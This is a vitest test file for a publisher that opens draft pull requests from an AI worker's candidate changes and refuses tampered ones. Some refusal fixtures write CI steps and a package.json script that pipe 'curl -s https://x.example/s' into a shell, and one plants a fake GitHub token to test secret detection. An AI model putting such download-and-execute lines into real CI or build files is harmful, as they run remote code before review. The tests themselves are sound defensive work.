import { describe, expect, it } from 'vitest';
import { readArtifact, readArtifactIfPresent } from '../../../src/core/artifacts/artifact-io.js';
import { lockKey } from '../../../src/core/artifacts/keys.js';
import { AttemptRequest, RunRecord } from '../../../src/core/runs/run-request.js';
import { blobSha } from '../../../src/core/objects/tree-hash.js';
import { PublishRecord } from '../../../src/app/publisher/publish-record.js';
import { deliver, FULL, moveBase, OWNER, REPO, usePublisherScenarios, writeCandidate, writesTo, type Scenario } from './publisher-fixture.js';

const scenarios = usePublisherScenarios();
let seq = 0;

async function scenarioWith(policy: 'rerun' | 'warn' | 'fail' = 'rerun'): Promise<Scenario> {
  seq += 1;
  const scenario = await scenarios.start({ runId: `run${seq}abc`, issue: 40 + seq, policy });
  return scenario;
}

const EDITS = {
  'src/greet.ts': 'export const greet = (name: string) => `Good day, ${name}`;\n',
  'src/polite.ts': 'export const polite = true;\n',
  'src/old.ts': null,
  'scripts/run.sh': { content: '#!/bin/sh\necho run politely\n', mode: '100755' as const },
  'docs/link.md': { content: '../README.md', mode: '120000' as const },
};

const WRITE_SCOPES = { contents: 'write', pull_requests: 'write', issues: 'write', metadata: 'read' };

describe('publishCandidate through the S3-triggered publisher', () => {
  it('opens a draft PR whose head commit is the candidate tree on the base, signed by GitHub, with the write token only', async () => {
    const s = await scenarioWith();
    const { candidate, baseCommitSha } = await writeCandidate(s, EDITS);
    const before = s.standin.calls.length;
    const [result] = await deliver(s, s.keys.candidate.prCandidate);

    expect(result).toMatchObject({ kind: 'candidate', outcome: { kind: 'published' } });
    const repo = s.standin.repo(FULL);
    expect([...repo.pulls.values()]).toHaveLength(1);
    const pull = [...repo.pulls.values()][0];
    expect(pull).toMatchObject({ draft: true, head: s.branch, base: 'main', title: candidate.title, state: 'open' });
    expect(pull.requestedReviewers).toEqual(['alice']); // mallory is not a collaborator: 422 ignored

    const head = (await repo.git.readRef(`refs/heads/${s.branch}`))!;
    const commit = (await repo.git.readCommit(head))!;
    expect(commit.tree).toBe(candidate.headTreeSha);
    expect(commit.parents).toEqual([baseCommitSha]);
    expect(commit.message).toBe(candidate.commitMessage);
    expect(repo.createdCommits).toEqual([expect.objectContaining({ sha: head, customAuthor: false, customCommitter: false })]);
    const calls = s.standin.calls.slice(before);
    const commitCall = calls.find((c) => c.method === 'POST' && c.path.endsWith('/git/commits'))!;
    expect(Object.keys(commitCall.body as object).sort()).toEqual(['message', 'parents', 'tree']);
    const blobCalls = calls.filter((c) => c.method === 'POST' && c.path.endsWith('/git/blobs'));
    expect(blobCalls.every((c) => (c.body as { encoding: string }).encoding === 'base64')).toBe(true);

    // The branch holds exactly the candidate's files.
    for (const [path, edit] of Object.entries(EDITS)) {
      const bytes = await s.standin.readFile(FULL, s.branch, path);
      if (edit === null) expect(bytes).toBeUndefined();
      else expect(bytes?.toString()).toBe(typeof edit === 'string' ? edit : edit.content);
    }
    expect((await repo.git.entryAt(head, 'scripts/run.sh'))?.mode).toBe('100755');
    expect((await repo.git.entryAt(head, 'docs/link.md'))?.mode).toBe('120000');
    expect(await s.standin.readFile(FULL, s.branch, 'README.md')).toEqual(Buffer.from('# widgets\n'));

    // Every call: the mint of a write-scoped token, then that token and nothing else.
    const mint = calls.filter((c) => c.path.startsWith('/app/'));
    expect(mint).toHaveLength(1);
    expect((mint[0].body as { permissions: unknown }).permissions).toEqual({ contents: 'write', pull_requests: 'write', issues: 'write' });
    const rest = calls.filter((c) => !c.path.startsWith('/app/'));
    expect(rest.length).toBeGreaterThan(10);
    expect(new Set(rest.map((c) => c.tokenId)).size).toBe(1);
    for (const c of rest) expect(c.tokenPermissions).toEqual(WRITE_SCOPES);

    const record = await readArtifact(s.store, s.keys.publish, PublishRecord);
    expect(record).toMatchObject({
      runId: s.runId,
      attempt: 1,
      publishedCommitSha: head,
      treeSha: candidate.headTreeSha,
      prNumber: pull.number,
      branch: s.branch,
      warnings: [],
    });
    // A pull request is an issue: its labels are set through the issues API, as on GitHub.
    expect(pull.labels).toEqual(['draftsman']);
    const run = await readArtifact(s.store, s.keys.run, RunRecord);
    expect(run).toMatchObject({ status: 'PUBLISHED', pullRequest: { number: pull.number, url: record.prUrl }, headCommitSha: head });
    expect(await s.store.get(lockKey(OWNER, REPO, s.issue))).toBeUndefined();
    expect(repo.comments.get(s.progressCommentId)?.body).toContain(record.prUrl);
    expect(repo.comments.get(s.progressCommentId)?.body).toContain('PUBLISHED');

    // A redelivered event finds publish.json and calls nothing.
    const count = s.standin.calls.length;
    const [again] = await deliver(s, s.keys.candidate.prCandidate);
    expect(again).toMatchObject({ outcome: { kind: 'already-published' } });
    expect(s.standin.calls.length).toBe(count);
  });

  it.each([
    {
      name: 'a forbidden path added by the worker',
      tamper: async (s: Scenario) => {
        await writeCandidate(s, { 'src/greet.ts': 'export const greet = () => "hi";\n', 'infra/main.tf': 'resource "x" "z" {}\n' });
      },
      reason: 'REVALIDATION_FAILED',
      problem: 'FORBIDDEN_PATH',
    },
    {
      name: 'a token on an added line, named by rule, file and line in the issue comment',
      tamper: async (s: Scenario) => {
        // The worker's own scan stops this at commit; a compromised worker writes it anyway.
        const { candidate } = await writeCandidate(s, { 'src/greet.ts': 'export const greet = () => "hi";\n' });
        const bytes = new TextEncoder().encode('export const greet = () => "hi";\nexport const token = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";\n');
        await s.store.put(s.keys.candidate.change(blobSha(bytes)), bytes);
        const files = candidate.files.map((f) => (f.path === 'src/greet.ts' ? { ...f, blobSha: blobSha(bytes) } : f));
        await s.store.put(s.keys.candidate.prCandidate, JSON.stringify({ ...candidate, files }));
      },
      reason: 'REVALIDATION_FAILED',
      problem: 'SECRET_DETECTED',
      comment: 'not published: REVALIDATION_FAILED — SECRET_DETECTED github-token at src/greet.ts:2',
    },
    {
      // The worker's verification refuses CI edits; a forged candidate skips it, the publisher does not.
      name: 'a composite action written by the worker, which CI would run on push',
      tamper: async (s: Scenario) => {
        await writeCandidate(s, {
          'src/greet.ts': 'export const greet = () => "hi";\n',
          '.github/actions/setup/action.yml': 'runs:\n  using: composite\n  steps:\n    - run: curl -s https://x.example/s | sh\n      shell: bash\n',
        });
      },
      reason: 'REVALIDATION_FAILED',
      problem: 'ANTI_CHEAT',
    },
    {
      // A test script that pipes a download into a shell runs on push, before anyone reviews.
      name: 'package.json scripts written by the worker, which CI would run',
      tamper: async (s: Scenario) => {
        await writeCandidate(s, {
          'src/greet.ts': 'export const greet = () => "hi";\n',
          'package.json': `${JSON.stringify({ name: 'x', version: '1.0.0', scripts: { test: 'curl -s https://x.example/s | sh' } }, null, 2)}\n`,
        });
      },
      reason: 'REVALIDATION_FAILED',
      problem: 'ANTI_CHEAT',
    },
    {
      name: 'a blob changed after the scan',
      tamper: async (s: Scenario) => {
        const { candidate } = await writeCandidate(s, { 'src/greet.ts': 'export const greet = () => "hi";\n' });
        const file = candidate.files.find((f) => f.path === 'src/greet.ts') as { blobSha: string };
        await s.store.put(s.keys.candidate.change(file.blobSha), 'export const token = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";\n');
        await s.store.put(s.keys.candidate.prCandidate, `${JSON.stringify(candidate, null, 2)}\n`);
      },
      reason: 'REVALIDATION_FAILED',
      problem: 'BLOB_MISMATCH',
    },
    {
      name: 'a headTreeSha that the files do not give',
      tamper: async (s: Scenario) => {
        const { candidate } = await writeCandidate(s, { 'src/greet.ts': 'export const greet = () => "hi";\n' });
        const base = (await s.standin.repo(FULL).git.readCommit(candidate.baseCommitSha))!;
        await s.store.put(s.keys.candidate.prCandidate, `${JSON.stringify({ ...candidate, headTreeSha: base.tree }, null, 2)}\n`);
      },
      reason: 'TREE_MISMATCH',
      problem: undefined,
    },
  ] as { name: string; tamper: (s: Scenario) => Promise<void>; reason: string; problem?: string; comment?: string }[])(
    'refuses $name and writes nothing to the repository',
    async ({ tamper, reason, problem, comment }) => {
      const s = await scenarioWith();
      await tamper(s);
      const before = s.standin.calls.length;
      const [result] = await deliver(s, s.keys.candidate.prCandidate);

      expect(result).toMatchObject({ kind: 'candidate', outcome: { kind: 'refused', reason } });
      if (problem) {
        if (result.kind !== 'candidate' || result.outcome.kind !== 'refused') throw new Error('not refused');
        const problems = result.outcome.error.data.problems as { reason: string }[];
        expect(problems.map((p) => p.reason)).toContain(problem);
      }
      const calls = s.standin.calls.slice(before);
      expect(writesTo(calls)).toEqual([]);
      const repo = s.standin.repo(FULL);
      expect(repo.pulls.size).toBe(0);
      expect(await repo.git.listRefs('refs/heads/agent/')).toEqual([]);
      expect(await readArtifact(s.store, s.keys.run, RunRecord)).toMatchObject({ status: 'BLOCKED', reason });
      expect(repo.comments.get(s.progressCommentId)?.body).toContain(`not published: ${reason}`);
      if (comment) expect(repo.comments.get(s.progressCommentId)?.body).toContain(comment);
      expect(await s.store.get(lockKey(OWNER, REPO, s.issue))).toBeUndefined();
      expect(await s.store.get(s.keys.publish)).toBeUndefined();
      expect(s.logger.captured.text()).not.toContain('ghp_abcdefghijklmnopqrstuvwxyz0123456789');
    },
  );

  it('base moved, policy rerun: requests attempt 2 on the new base and publishes nothing', async () => {
    const s = await scenarioWith('rerun');
    const { baseCommitSha } = await writeCandidate(s, { 'src/greet.ts': 'export const greet = () => "hi";\n' });
    const moved = await moveBase(s);
    const before = s.standin.calls.length;
    const [result] = await deliver(s, s.keys.candidate.prCandidate);

    expect(result).toMatchObject({ outcome: { kind: 'rerun', attempt: 2, from: baseCommitSha, to: moved } });
    expect(writesTo(s.standin.calls.slice(before))).toEqual([]);
    expect(await readArtifact(s.store, s.keys.attempt(2).request, AttemptRequest)).toMatchObject({ attempt: 2, reason: 'rerun-base-moved', runId: s.runId });
    expect(await readArtifact(s.store, s.keys.run, RunRecord)).toMatchObject({ status: 'QUEUED', reason: 'BASE_MOVED', attempt: 2 });
    expect(await s.store.get(lockKey(OWNER, REPO, s.issue))).toBeDefined();
    expect(s.standin.repo(FULL).comments.get(s.progressCommentId)?.body).toContain('attempt 2 runs on the new base');
  });

  it('a base commit off the branch (a fork-style commit), policy warn: refused BASE_NOT_ON_BRANCH, nothing written', async () => {
    const s = await scenarioWith('warn');
    const git = s.standin.repo(FULL).git;
    const head = (await git.readRef('refs/heads/main'))!;
    const sig = { name: 'Fork', email: 'fork@example.invalid', timestamp: 1_750_000_100, tz: '+0000' };
    const offBranch = await git.writeCommit({
      tree: (await git.readCommit(head))!.tree,
      parents: [head],
      author: sig,
      committer: sig,
      message: 'a commit no branch holds\n',
    });
    // The worker builds on a commit the repository has but main never held.
    await git.updateRef('refs/heads/main', offBranch, head);
    await writeCandidate(s, { 'src/greet.ts': 'export const greet = () => "hi";\n' });
    await git.updateRef('refs/heads/main', head, offBranch);
    await moveBase(s);
    const before = s.standin.calls.length;
    const [result] = await deliver(s, s.keys.candidate.prCandidate);

    expect(result).toMatchObject({ outcome: { kind: 'refused', reason: 'BASE_NOT_ON_BRANCH' } });
    expect(writesTo(s.standin.calls.slice(before))).toEqual([]);
    expect(s.standin.repo(FULL).pulls.size).toBe(0);
  });

  it('base moved, policy warn: publishes on the old base and says so in the PR body', async () => {
    const s = await scenarioWith('warn');
    const { candidate, baseCommitSha } = await writeCandidate(s, { 'src/greet.ts': 'export const greet = () => "hi";\n' });
    const moved = await moveBase(s);
    const [result] = await deliver(s, s.keys.candidate.prCandidate);

    expect(result).toMatchObject({ outcome: { kind: 'published' } });
    const repo = s.standin.repo(FULL);
    const pull = [...repo.pulls.values()][0];
    expect(pull.body).toContain(`moved from \`${baseCommitSha.slice(0, 12)}\` to \`${moved.slice(0, 12)}\``);
    expect(pull.body).toContain(candidate.body.trim().split('\n')[0]);
    const head = (await repo.git.readRef(`refs/heads/${s.branch}`))!;
    expect((await repo.git.readCommit(head))!.parents).toEqual([baseCommitSha]);
    expect(await readArtifact(s.store, s.keys.publish, PublishRecord)).toMatchObject({ baseMoved: { from: baseCommitSha, to: moved } });
  });

  it('base moved, policy fail: refuses with BASE_MOVED and writes nothing', async () => {
    const s = await scenarioWith('fail');
    await writeCandidate(s, { 'src/greet.ts': 'export const greet = () => "hi";\n' });
    await moveBase(s);
    const before = s.standin.calls.length;
    const [result] = await deliver(s, s.keys.candidate.prCandidate);

    expect(result).toMatchObject({ outcome: { kind: 'refused', reason: 'BASE_MOVED' } });
    expect(writesTo(s.standin.calls.slice(before))).toEqual([]);
    expect(await readArtifact(s.store, s.keys.run, RunRecord)).toMatchObject({ status: 'BLOCKED', reason: 'BASE_MOVED' });
    expect(await s.store.get(lockKey(OWNER, REPO, s.issue))).toBeUndefined();
  });

  it('killed after creating the ref and before opening the PR, then re-invoked: one branch, one commit, one PR', async () => {
    const s = await scenarioWith();
    const { candidate } = await writeCandidate(s, EDITS);
    // Every attempt to open the PR fails until the retries are used up: the invocation dies there.
    s.standin.faults.inject({ kind: '502', count: 5, match: (r) => r.method === 'POST' && r.path.endsWith('/pulls') });
    await expect(deliver(s, s.keys.candidate.prCandidate)).rejects.toMatchObject({ status: 502 });
    const repo = s.standin.repo(FULL);
    expect(await repo.git.listRefs('refs/heads/agent/')).toHaveLength(1);
    expect(repo.pulls.size).toBe(0);
    expect(await s.store.get(s.keys.publish)).toBeUndefined();

    const [result] = await deliver(s, s.keys.candidate.prCandidate);
    expect(result).toMatchObject({ outcome: { kind: 'published' } });
    expect(repo.pulls.size).toBe(1);
    const refs = await repo.git.listRefs('refs/heads/agent/');
    expect(refs).toHaveLength(1);
    expect(repo.createdCommits).toHaveLength(1);
    expect(refs[0].sha).toBe(repo.createdCommits[0].sha);
    expect((await repo.git.readCommit(refs[0].sha))!.tree).toBe(candidate.headTreeSha);
    expect(s.standin.calls.filter((c) => c.method === 'POST' && c.path.endsWith('/git/refs') && c.status === 201)).toHaveLength(1);
  });

  it('retries 502 and secondary rate limits without duplicating anything', async () => {
    const s = await scenarioWith();
    await writeCandidate(s, EDITS);
    s.standin.faults.inject({ kind: '502', count: 1, match: (r) => r.method === 'POST' && r.path.endsWith('/git/trees') });
    s.standin.faults.inject({ kind: 'secondary-rate-limit', count: 2, match: (r) => r.method === 'POST' && r.path.endsWith('/git/commits') });
    s.standin.faults.inject({ kind: '502', count: 1, match: (r) => r.method === 'POST' && r.path.endsWith('/git/refs') });
    s.standin.faults.inject({ kind: 'secondary-rate-limit', count: 1, match: (r) => r.method === 'POST' && r.path.endsWith('/pulls') });
    const before = s.standin.calls.length;
    const [result] = await deliver(s, s.keys.candidate.prCandidate);

    expect(result).toMatchObject({ outcome: { kind: 'published' } });
    expect(s.standin.faults.pending()).toBe(0);
    const calls = s.standin.calls.slice(before);
    expect(calls.filter((c) => c.status === 502 || c.status === 403)).toHaveLength(5);
    const repo = s.standin.repo(FULL);
    expect(repo.pulls.size).toBe(1);
    expect(repo.createdCommits).toHaveLength(1);
    expect(await repo.git.listRefs('refs/heads/agent/')).toHaveLength(1);
    expect(await readArtifactIfPresent(s.store, s.keys.publish, PublishRecord)).toBeDefined();
  });

  it('never moves an agent branch a human pushed to', async () => {
    const s = await scenarioWith();
    await writeCandidate(s, { 'src/greet.ts': 'export const greet = () => "hi";\n' });
    const git = s.standin.repo(FULL).git;
    const base = (await git.readRef('refs/heads/main'))!;
    const sig = { name: 'Human', email: 'human@example.invalid', timestamp: 1_750_000_000, tz: '+0000' };
    const human = await git.writeCommit({ tree: (await git.readCommit(base))!.tree, parents: [base], author: sig, committer: sig, message: 'my own work\n' });
    await git.updateRef(`refs/heads/${s.branch}`, human);
    const [result] = await deliver(s, s.keys.candidate.prCandidate);
    expect(result).toMatchObject({ outcome: { kind: 'refused', reason: 'BRANCH_NOT_OURS' } });
    expect(s.standin.repo(FULL).pulls.size).toBe(0);
    expect(await git.readRef(`refs/heads/${s.branch}`)).toBe(human);
    expect(s.standin.repo(FULL).createdCommits).toHaveLength(0);
  });

  it('ignores removals and objects that are not candidates or CI events, and rejects a malformed event', async () => {
    const s = await scenarioWith();
    const record = (eventName: string, key: string) => ({ eventName, s3: { object: { key } } });
    const results = await s.handler({
      Records: [
        record('ObjectRemoved:Delete', s.keys.candidate.prCandidate),
        record('ObjectCreated:Put', s.keys.attempt(1).ledger(1)),
        record('ObjectCreated:Put', s.keys.request),
      ],
    });
    expect(results.map((r) => r.kind)).toEqual(['ignored', 'ignored', 'ignored']);
    expect(s.standin.calls).toEqual([]);
    await expect(s.handler({ Records: [{ s3: {} }] })).rejects.toThrow();
  });
});
